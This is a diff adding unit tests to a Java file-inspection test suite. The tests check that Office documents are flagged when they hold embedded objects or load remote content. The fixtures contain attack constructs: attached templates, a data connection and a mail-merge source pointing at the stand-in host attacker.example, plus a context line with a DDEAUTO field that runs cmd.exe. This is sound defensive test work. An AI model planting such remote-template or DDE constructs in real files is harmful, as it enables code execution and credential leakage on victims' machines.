@@ -155,6 +155,68 @@ public class FileInspectorTest {
     }
 
     @Test
+    void aChartsOwnDataWorkbookIsNotAnEmbeddedObjectButAnyOtherEmbeddingIs() throws IOException {
+        byte[] data = Documents.xlsx(Map.of("Sheet1", new String[][] {{"year", "pupils"}, {"2024", "12"}}));
+        String chartRels = Documents.relationships("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", false);
+        var chart = judge("form.docx", "", withEmbedding(Documents.docx("see the chart"), Map.of(
+                "word/charts/chart1.xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>".getBytes(StandardCharsets.UTF_8),
+                "word/charts/_rels/chart1.xml.rels", chartRels.getBytes(StandardCharsets.UTF_8),
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
+        var unreferenced = judge("form.docx", "", withEmbedding(Documents.docx("no chart here"), Map.of(
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
+        var fromTheBody = judge("form.docx", "", withEmbedding(Documents.docx("an object in the text"), Map.of(
+                "word/_rels/document.xml.rels", chartRels.getBytes(StandardCharsets.UTF_8),
+                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data)));
+        var macroWorkbook = judge("form.docx", "", withEmbedding(Documents.docx("see the chart"), Map.of(
+                "word/charts/chart1.xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"/>".getBytes(StandardCharsets.UTF_8),
+                "word/charts/_rels/chart1.xml.rels",
+                Documents.relationships("package", "../embeddings/book.xlsm", false).getBytes(StandardCharsets.UTF_8),
+                "word/embeddings/book.xlsm", data)));
+        assertThat(chart.check().verdict()).isEqualTo(Verdict.ACCEPTED);
+        assertThat(codes(unreferenced)).containsExactly(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
+        assertThat(codes(fromTheBody)).containsExactly(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
+        assertThat(codes(macroWorkbook)).contains(ProblemCode.FILE_HAS_EMBEDDED_OBJECTS);
+    }
+
+    /** The package with the parts added and their types declared, as Word writes them, so that POI opens it. */
+    static byte[] withEmbedding(byte[] docx, Map<String, byte[]> parts) {
+        String types = new String(Documents.read(docx, "[Content_Types].xml"), StandardCharsets.UTF_8).replace("</Types>",
+                "<Default Extension=\"xlsx\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\"/>"
+                        + (parts.keySet().stream().anyMatch(p -> p.endsWith(".xlsm"))
+                                ? "<Default Extension=\"xlsm\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.12\"/>" : "")
+                        + "<Override PartName=\"/word/charts/chart1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawingml.chart+xml\"/>"
+                        + "</Types>");
+        Map<String, byte[]> changes = new java.util.HashMap<>(parts);
+        changes.put("[Content_Types].xml", types.getBytes(StandardCharsets.UTF_8));
+        return Documents.edit(docx, changes);
+    }
+
+    @Test
+    void aTemplateOnTheAuthorsOwnDiskIsNotRemoteButOneOnAShareOrTheWebIs() throws IOException {
+        for (String local : List.of("file:///C:\\Users\\author\\Templates\\DfE%20form.dotx", "C:/Templates/form.dotx")) {
+            var j = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels", Documents.relationships("attachedTemplate", local, true)));
+            assertThat(j.check().verdict()).as(local).isEqualTo(Verdict.ACCEPTED);
+        }
+        for (String remote : List.of("\\\\attacker.example\\share\\t.dotm", "file://attacker.example/share/t.dotm", "https://attacker.example/t.dotm")) {
+            var j = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels", Documents.relationships("attachedTemplate", remote, true)));
+            assertThat(codes(j)).as(remote).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
+        }
+    }
+
+    @Test
+    void workbookDataConnectionsAndMailMergeListsAreRemoteContent() throws IOException {
+        byte[] workbook = Documents.xlsx(Map.of("Sheet1", new String[][] {{"a"}}));
+        var connection = judge("tables.xlsx", "", Documents.edit(workbook, Map.of("xl/connections.xml",
+                ("<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"q\" type=\"4\">"
+                        + "<webPr url=\"https://attacker.example/data\"/></connection></connections>").getBytes(StandardCharsets.UTF_8))));
+        var mailMerge = judge("form.docx", "", Documents.docxWith("word/_rels/settings.xml.rels",
+                Documents.relationships("mailMergeSource", "\\\\attacker.example\\list.xlsx", true)));
+        assertThat(codes(connection)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
+        assertThat(connection.findings().get(0).found()).isEqualTo("a data connection to elsewhere");
+        assertThat(codes(mailMerge)).containsExactly(ProblemCode.FILE_LOADS_REMOTE_CONTENT);
+    }
+
+    @Test
     void ddeFieldsInWordAndDdeFormulasInExcelAreUnsafe() throws IOException {
         var simple = judge("form.docx", "", Documents.docxWithBody(
                 "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p>"));
